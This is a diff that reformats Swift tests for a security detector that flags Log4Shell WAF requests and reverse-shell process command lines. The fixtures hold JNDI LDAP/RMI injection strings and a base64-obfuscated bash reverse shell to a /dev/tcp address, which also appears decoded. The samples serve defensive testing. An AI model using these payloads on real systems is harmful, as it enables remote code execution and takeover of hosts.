@@ -8,7 +8,10 @@ private func request(_ attributes: [Attribute]) -> Event {
   Event(
     time: Timestamp(milliseconds: 1_795_584_153_588), dataType: "aws:waf:request", message: "",
     entities: [Entity(.address, "203.0.113.66")],
-    attributes: [Attribute("client_ip", "203.0.113.66"), Attribute("http_method", "GET"), Attribute("uri", "/login.do"), Attribute("action", "ALLOW")] + attributes,
+    attributes: [
+      Attribute("client_ip", "203.0.113.66"), Attribute("http_method", "GET"), Attribute("uri", "/login.do"),
+      Attribute("action", "ALLOW"),
+    ] + attributes,
     locator: Locator(offset: 10, length: 20, line: 3))
 }
 
@@ -16,7 +19,9 @@ private func request(_ attributes: [Attribute]) -> Event {
   @Test func oneFindingForEachRuleWithAllPayloads() throws {
     let event = request([
       Attribute("user_agent", "${jndi:ldap://203.0.113.66:1389/ua}"),
-      Attribute("headers", .texts(["User-Agent: ${jndi:ldap://203.0.113.66:1389/ua}", "X-Api-Version: ${jndi:rmi://c.example/api}"])),
+      Attribute(
+        "headers",
+        .texts(["User-Agent: ${jndi:ldap://203.0.113.66:1389/ua}", "X-Api-Version: ${jndi:rmi://c.example/api}"])),
       Attribute("labels", .texts(["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"])),
     ])
     let found = findings(TextInEvents(artifact: artifact), [event])
@@ -33,7 +38,9 @@ private func request(_ attributes: [Attribute]) -> Event {
 
   /// The body is never logged; the label says what was in it.
   @Test func aLabelAloneIsEvidence() {
-    let event = request([Attribute("labels", .texts(["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body"])), Attribute("body_size", 214)])
+    let event = request([
+      Attribute("labels", .texts(["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body"])), Attribute("body_size", 214),
+    ])
     let found = findings(TextInEvents(artifact: artifact), [event])
     #expect(found.map(\.rule) == ["log4shell.waf-label"])
     #expect(found.first?.message.contains("body (214 bytes)") == true)
@@ -41,7 +48,8 @@ private func request(_ attributes: [Attribute]) -> Event {
 
   @Test func ordinaryRequestsAreQuiet() {
     let event = request([
-      Attribute("query", "q=%24%7Bprice%7D+discount"), Attribute("labels", .texts(["awswaf:managed:aws:bot-control:bot:verified"])),
+      Attribute("query", "q=%24%7Bprice%7D+discount"),
+      Attribute("labels", .texts(["awswaf:managed:aws:bot-control:bot:verified"])),
       Attribute("body_size", 100),
     ])
     #expect(findings(TextInEvents(artifact: artifact), [event]).isEmpty)
@@ -50,11 +58,18 @@ private func request(_ attributes: [Attribute]) -> Event {
   @Test func aCommandLineIsACommand() {
     let event = Event(
       time: nil, dataType: "linux:capture:process", message: "",
-      attributes: [Attribute("pid", 460), Attribute("command_line", "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNjYvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}")],
+      attributes: [
+        Attribute("pid", 460),
+        Attribute(
+          "command_line",
+          "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNjYvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}"),
+      ],
       locator: .whole)
     let found = findings(TextInEvents(artifact: artifact), [event]).filter { $0.rule == "reverse-shell.command-line" }
     #expect(found.first?.severity == .high)
-    #expect(found.first?.attributes.contains(Attribute("inner_command", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")) == true)
+    #expect(
+      found.first?.attributes.contains(Attribute("inner_command", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")) == true
+    )
     #expect(found.first?.attributes.contains(Attribute("remote_port", 4444)) == true)
     #expect(found.first?.entities.contains(Entity(.process, "460")) == true)
   }
